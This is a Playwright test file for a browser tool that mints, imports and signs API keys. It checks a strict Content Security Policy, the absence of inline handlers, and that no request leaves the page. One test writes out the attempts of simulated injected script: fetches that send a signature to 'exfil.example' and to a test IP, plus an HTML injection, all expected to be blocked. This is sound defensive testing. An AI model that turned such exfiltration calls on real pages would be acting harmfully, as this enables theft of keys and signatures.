// Locked down (issue 4, item 4): in both builds nothing leaves the page while it mints, imports
// and signs; the strict CSP meta is in place and nothing trips it; the built HTML has no inline
// event handlers and loads nothing from elsewhere.
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import type { Page } from '@playwright/test';
import {
  expect,
  importPem,
  kalshiMessage,
  mintKey,
  signRequest,
  test,
  ui,
  verifyWithNode,
  watchOf,
} from './fixtures';
import { nodeRsaKey } from '../helpers/keys';

const DIST = fileURLToPath(new URL('../../dist/', import.meta.url));
const BUILDS = [
  { name: 'hosted build (index.html)', file: 'index.html' },
  { name: 'single file (kalshi-keys.html)', file: 'kalshi-keys.html' },
] as const;

/** The directives of the page's CSP meta tag, by name. */
function cspOf(html: string): Map<string, string[]> {
  const metas = [
    ...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/gi),
  ];
  expect(metas, 'exactly one CSP meta tag').toHaveLength(1);
  const directives = new Map<string, string[]>();
  for (const part of metas[0]![1]!.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** The markup only: inline script and style bodies removed (their text is code, not attributes). */
function markupOf(html: string): string {
  return html
    .replace(/<script\b([^>]*)>[\s\S]*?<\/script>/gi, '<script$1></script>')
    .replace(/<style\b([^>]*)>[\s\S]*?<\/style>/gi, '<style$1></style>')
    .replace(/<!--[\s\S]*?-->/g, '');
}

for (const build of BUILDS) {
  test(`${build.name}: strict CSP meta, no inline handlers, nothing loaded from elsewhere`, async () => {
    const html = await readFile(join(DIST, build.file), 'utf8');
    const csp = cspOf(html);
    expect(csp.get('default-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'none'"]);
    expect(csp.get('form-action')).toEqual(["'none'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    // Trusted Types: no string reaches an HTML or script sink except through the page's one policy.
    expect(csp.get('require-trusted-types-for')).toEqual(["'script'"]);
    // The hosted page's one policy passes its service worker's URL; the single file starts no worker.
    expect(csp.get('trusted-types')).toEqual(
      build.file === 'index.html' ? ['default'] : ["'none'"],
    );
    const scriptSrc = csp.get('script-src') ?? [];
    expect(scriptSrc.length).toBeGreaterThan(0);
    expect(
      scriptSrc.filter((s) => /unsafe-(inline|eval|hashes)|^\*$|^https?:$|^data:$/.test(s)),
    ).toEqual([]);
    if (build.file === 'kalshi-keys.html') {
      expect(csp.get('connect-src')).toEqual(["'none'"]);
      expect(scriptSrc.every((s) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(s))).toBe(true);
    } else {
      // Only the relay on this computer, over http or https: no https: wildcard, no other host.
      expect(csp.get('connect-src')?.sort()).toEqual(
        [
          'http://127.0.0.1:*',
          'https://127.0.0.1:*',
          'http://localhost:*',
          'https://localhost:*',
        ].sort(),
      );
      expect(scriptSrc).toEqual(["'self'"]);
    }

    const markup = markupOf(html);
    expect(markup.match(/<[a-z][^>]*\son[a-z]+\s*=/gi) ?? [], 'inline event handlers').toEqual([]);
    expect(
      markup.match(/\s(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:/gi) ?? [],
      'javascript: URLs',
    ).toEqual([]);
    const external = [
      ...markup.matchAll(
        /\s(?:src|href|srcset|action|poster|data)\s*=\s*["']?\s*((?:https?:)?\/\/[^"'\s>]*)/gi,
      ),
    ].map((m) => m[1]);
    expect(external, 'src/href attributes pointing to another host').toEqual([]);
  });
}

test('stylesheets load no external fonts or images', async () => {
  const sheets: [string, string][] = [];
  for (const file of await readdir(join(DIST, 'assets'))) {
    if (file.endsWith('.css'))
      sheets.push([file, await readFile(join(DIST, 'assets', file), 'utf8')]);
  }
  const single = await readFile(join(DIST, 'kalshi-keys.html'), 'utf8');
  for (const m of single.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi))
    sheets.push(['kalshi-keys.html', m[1]!]);
  expect(sheets.length).toBeGreaterThan(0);
  for (const [name, css] of sheets) {
    expect(css.match(/@import|@font-face/gi) ?? [], name).toEqual([]);
    expect(css.match(/url\(\s*["']?\s*(?:https?:)?\/\//gi) ?? [], name).toEqual([]);
  }
});

/** Mints, imports a key made by node:crypto, and signs with it; returns nothing, asserts as it goes. */
async function mintImportSign(page: Page): Promise<void> {
  await mintKey(page, 'Lockdown minted');
  const pair = nodeRsaKey();
  const privatePem = pair.pkcs8Pem;
  const publicPem = pair.publicPem;
  expect(await importPem(page, privatePem)).toEqual({ ok: true });
  await ui(page).kalshiKeyId.fill('0d9e8f7a-6b5c-4d3e-2f1a-0b9c8d7e6f5a');
  const path = '/trade-api/v2/portfolio/balance';
  const signed = await signRequest(page, { method: 'GET', path });
  expect(
    verifyWithNode(publicPem, kalshiMessage(signed.timestamp, 'GET', path), signed.signature),
  ).toBe(true);
}

/** In the live page: no inline handler attribute anywhere, and every loaded resource is the page's own. */
async function expectLiveDomClean(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const handlers: string[] = [];
    const foreign: string[] = [];
    for (const element of Array.from(document.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        if (/^on/i.test(attribute.name)) handlers.push(`${element.tagName} ${attribute.name}`);
      }
    }
    for (const element of Array.from(
      document.querySelectorAll(
        'script[src], link[href], img[src], iframe, source[src], video, audio',
      ),
    )) {
      const url = (element as HTMLScriptElement).src || (element as HTMLLinkElement).href || '';
      if (/^(https?|wss?):/.test(url) && new URL(url).origin !== location.origin) foreign.push(url);
    }
    return { handlers, foreign };
  });
  expect(found).toEqual({ handlers: [], foreign: [] });
}

test("hosted build: minting, importing and signing make no request beyond the page's own origin", async ({
  page,
}) => {
  await page.goto('/');
  await mintImportSign(page);
  const watch = watchOf(page);
  const origin = new URL(page.url()).origin;
  const elsewhere = watch.requests.filter(
    (r) => /^(https?|wss?):/.test(r.url) && new URL(r.url).origin !== origin,
  );
  expect(elsewhere).toEqual([]);
  // No relay was set, so "Send through relay" sent nothing; the CSP was never tripped.
  watch.expectClean();
  await expectLiveDomClean(page);
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(meta).toMatch(/default-src 'none'/);
});

test('hosted build: a script in the page can reach no server but loopback, and can write no markup', async ({
  page,
}) => {
  await page.goto('/');
  await expect(ui(page).createKey).toBeEnabled();
  const watch = watchOf(page);
  // What injected code would try: send a signature elsewhere, or write HTML into the page.
  const attempts = await page.evaluate(async () => {
    const fetched = await Promise.all(
      ['https://exfil.example/?sig=abc', 'http://192.0.2.1/?sig=abc'].map((url) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => 'sent',
          (error: Error) => error.name,
        ),
      ),
    );
    let markup = 'written';
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src=x id=injected>');
    } catch (error) {
      markup = (error as Error).name;
    }
    return { fetched, markup, injected: document.getElementById('injected') !== null };
  });
  expect(attempts).toEqual({
    fetched: ['TypeError', 'TypeError'],
    markup: 'TypeError',
    injected: false,
  });
  await expect
    .poll(() => watch.cspViolations.map((v) => `${v.violatedDirective} ${v.blockedURI}`).sort())
    .toEqual([
      'connect-src http://192.0.2.1/?sig=abc',
      'connect-src https://exfil.example/?sig=abc',
      'require-trusted-types-for trusted-types-sink',
    ]);
  expect(watch.nonLoopbackRequests()).toEqual([]);
});

test('single file from file://: minting, importing and signing make no network request at all', async ({
  page,
}) => {
  await page.goto(pathToFileURL(join(DIST, 'kalshi-keys.html')).href);
  await mintImportSign(page);
  const watch = watchOf(page);
  expect(watch.requests.filter((r) => /^(https?|wss?):/.test(r.url))).toEqual([]);
  watch.expectClean();
  await expectLiveDomClean(page);
  const meta = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(meta).toMatch(/connect-src 'none'/);
});
